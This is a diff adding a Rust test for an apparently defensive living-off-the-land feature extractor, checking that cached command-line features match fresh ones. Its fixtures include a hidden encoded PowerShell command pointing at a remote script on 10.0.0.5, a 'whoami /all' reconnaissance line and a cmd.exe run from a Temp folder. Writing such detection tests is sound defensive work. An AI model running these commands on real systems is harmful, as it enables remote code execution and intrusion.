@@ -185,3 +185,50 @@ fn parent_child_pair() {
         Some(FeatureValue::Num(1.0))
     );
 }
+
+#[test]
+fn memoised_command_line_features_equal_fresh_ones() {
+    let r = LotlRecipe::new(LotlParams::default()).unwrap();
+    let events = [
+        ev(r"C:\Windows\System32\cmd.exe", "cmd /c whoami /all"),
+        ev(
+            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+            "powershell -nop -w hidden -enc SQBFAFgA http://10.0.0.5/a.ps1",
+        ),
+        ev(
+            r"C:\Users\bob\AppData\Local\Temp\cmd.exe",
+            "cmd /c whoami /all",
+        ),
+    ];
+    let featurize = |e: &ProcessEvent| {
+        let mut row = FeatureRow::new();
+        r.featurize(e, &mut row);
+        row.numeric()
+            .iter()
+            .map(|x| x.to_bits())
+            .collect::<Vec<_>>()
+    };
+    // This thread: the second and third events reuse the first's command line features.
+    let warm: Vec<_> = events.iter().chain(&events).map(featurize).collect();
+    // A fresh thread starts with an empty memo: every value computed from scratch.
+    let cold: Vec<_> = std::thread::scope(|s| {
+        events
+            .iter()
+            .map(|e| s.spawn(move || featurize(e)).join().unwrap())
+            .collect()
+    });
+    for (i, w) in warm.iter().enumerate() {
+        assert_eq!(w, &cold[i % events.len()], "event {i}");
+    }
+    // Same command line, different image: the image features differ, the memo does not leak.
+    assert_ne!(warm[0], warm[2]);
+    // Another bucket count on the same thread gets its own entries.
+    let small = LotlRecipe::new(LotlParams {
+        cl_buckets: 16,
+        path_buckets: 8,
+    })
+    .unwrap();
+    let mut row = FeatureRow::new();
+    small.featurize(&events[0], &mut row);
+    assert_eq!(row.numeric().len(), warm[0].len() - (256 - 16) - (64 - 8));
+}
